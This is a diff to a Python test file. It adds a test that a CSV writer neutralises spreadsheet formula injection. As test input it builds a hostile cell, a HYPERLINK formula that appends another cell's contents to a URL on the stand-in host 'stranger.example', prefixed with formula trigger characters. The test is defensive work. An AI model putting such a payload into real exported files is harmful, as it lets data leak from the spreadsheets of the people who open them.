@@ -155,6 +155,20 @@ def test_pandas_arrow_and_parquet_hold_the_rows_with_their_types(tmp_path: Path)
     assert isinstance(summary, pandas.DataFrame)
 
 
+@pytest.mark.parametrize("first", [*"=+-@\t\r\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
+def test_no_text_of_a_csv_file_is_a_formula_to_a_spreadsheet(tmp_path: Path, first: str) -> None:
+    text = f'{first}HYPERLINK("https://stranger.example?"&A1,"see")'
+    verdict = replace(examples.VIOLATED, message=text)
+    attempt = examples.record("a", generation=examples.completion(text), verdict=verdict)
+
+    tables.write_csv(tmp_path / "run.csv", examples.run(attempt))
+
+    with (tmp_path / "run.csv").open(newline="", encoding="utf-8") as file:
+        (row,) = csv.DictReader(file)
+    assert (row["text"], row["message"]) == (f"'{text}", f"'{text}")
+    assert not [cell for cell in row.values() if cell.startswith(first)]
+
+
 @pytest.mark.parametrize("form", ["csv", "parquet"])
 def test_a_table_that_cannot_be_written_leaves_nothing_and_one_is_for_its_user_alone(form: str, tmp_path: Path) -> None:
     pytest.importorskip("pyarrow", reason="needs the extra frames")
